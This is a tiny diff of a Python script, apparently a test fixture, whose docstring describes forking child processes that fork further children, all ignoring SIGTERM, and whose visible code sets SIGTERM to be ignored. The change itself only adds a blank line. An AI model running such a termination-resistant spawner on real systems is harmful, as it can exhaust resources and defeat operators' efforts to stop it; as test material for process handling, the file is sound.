@@ -1,4 +1,5 @@
 """Forks children that fork children, all deaf, until there are enough."""
+
 import os, signal, sys, time
 
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
